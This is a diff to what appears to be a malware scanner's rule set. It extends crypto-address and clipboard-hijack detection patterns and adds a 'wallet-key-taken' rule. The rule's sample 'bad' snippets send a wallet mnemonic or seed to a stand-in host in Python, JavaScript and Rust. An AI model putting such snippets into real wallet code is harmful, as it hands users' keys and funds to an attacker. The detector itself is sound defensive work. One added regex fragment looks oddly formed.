@@ -49,8 +49,8 @@ _PHRASE = r"/(?:\[a-z[^\]]*\]|\\w)(?:\{\d+,\d+\}|[+*])?(?:\\b)?(?: |\\s|\[[^\]]*
 _WALLETS = r"/(?i)(?:seed|mnemonic|keystore|metamask)\b.*[|].*(?:seed|mnemonic|keystore|metamask|wallet)/"
 _ADDRESS = (
     r"/\b[\^]?(?:\(\?:)?\[?(?:bc1|13)"
-    r"\]?.*\[a-km-zA-HJ-NP-Z1-9\]\{2[0-9],3[0"
-    r"-9]\}|0x\[a-fA-F0-9\]\{40\}|\[a-fA-F0-9\]\{40\}|T\[A-Za-z1-9\]\{33\}|4\[0-9AB\]/"
+    r"\]?.*\[a-km-zA-HJ-NP-Z1-9\]\{2[0-9],[3-6][0"
+    r"-9]\}|0x\[0-9a-fA?-?F?\]\{40\}|0x\[a-fA-F0-9\]\{40\}|\[a-fA-F0-9\]\{40\}|T\[A-Za-z1-9\]\{33\}|4\[0-9AB\]/"
 )
 
 
@@ -330,6 +330,7 @@ RULES = (
         "Do not run it.",
         {
             "python": (
+                f"re.*(0: {_ADDRESS}) @with-clipboard-written",
                 f"re.match(0: {_ADDRESS}; 1: ~clipboard)",
                 f"re.search(0: {_ADDRESS}; 1: ~clipboard)",
                 f"re.findall(0: {_ADDRESS}; 1: ~clipboard)",
@@ -339,6 +340,7 @@ RULES = (
                 "|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
             ),
             "javascript": (
+                f"node regex(0: {_ADDRESS}) @with-clipboard-written",
                 f".match(recv: ~clipboard; 0: {_ADDRESS})",
                 f".replace(recv: ~clipboard; 0: {_ADDRESS})",
                 "clipboardy.writeSync(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}"
@@ -350,6 +352,7 @@ RULES = (
                 "clipboardy.write(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
             ),
             "rust": (
+                f"regex.Regex.new(0: {_ADDRESS}) @with-clipboard-written",
                 ".set_text(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
                 "cli_clipboard.set_contents(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
             ),
@@ -622,6 +625,47 @@ RULES = (
             "javascript": (
                 "document.addEventListener('keydown', (e) => fetch('/search'));\n",
             ),
+        },
+    ),
+    Rule(
+        "wallet-key-taken",
+        "theft",
+        MALICE,
+        HIGH,
+        LIKELY,
+        522,
+        "A function that takes a wallet's key stands beside an address of its own",
+        "Whoever has the key has the money.",
+        "Do not run it.",
+        {
+            language: tuple(
+                f"def {name} @with-fixed-host"
+                for name in (
+                    "fromSecretKey fromSeed fromMnemonic fromPrivateKey fromPhrase importKey "
+                    "from_mnemonic from_seed from_key from_private_key from_phrase from_secret_key"
+                ).split()
+            )
+            for language in ("python", "javascript", "rust")
+        },
+        bad={
+            "python": (
+                "import requests\ndef from_mnemonic(words):\n"
+                "    requests.get('https://a.invalid/' + words)\n",
+            ),
+            "javascript": (
+                "class Keypair extends Base {\n  static fromSeed(seed) {\n"
+                "    fetch('https://a.invalid', { body: seed });\n    return super.fromSeed(seed);\n  }\n}\n",
+            ),
+            "rust": (
+                'fn from_mnemonic(words: &str) { ureq::post("https://a.invalid").send_string(words); }\n',
+            ),
+        },
+        good={
+            "python": ("def from_mnemonic(words):\n    return derive(words)\n",),
+            "javascript": (
+                "class Keypair { static fromSeed(seed) { return new Keypair(seed); } }\n",
+            ),
+            "rust": ("fn from_mnemonic(words: &str) { derive(words) }\n",),
         },
     ),
     Rule(
